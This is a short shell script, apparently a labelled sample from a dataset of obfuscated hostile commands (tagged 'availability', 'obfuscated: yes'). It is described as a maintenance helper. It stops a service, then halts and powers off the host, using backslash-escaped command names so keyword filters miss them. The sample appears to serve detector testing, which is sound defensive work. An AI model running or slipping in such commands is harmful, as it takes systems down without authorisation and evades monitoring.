# description: Maintenance helper that schedules a host halt via nohup, nice and backslash-escaped command names.
# family: availability
# obfuscated: yes
set -uo pipefail

systemctl stop myapp
sync
echo "maintenance window started"
nohup nice -n 19 sh -c 'sleep 30; /sbin/\h\a\l\t -p' >/dev/null 2>&1 &
\p\o\w\e\r\o\f\f --no-wall
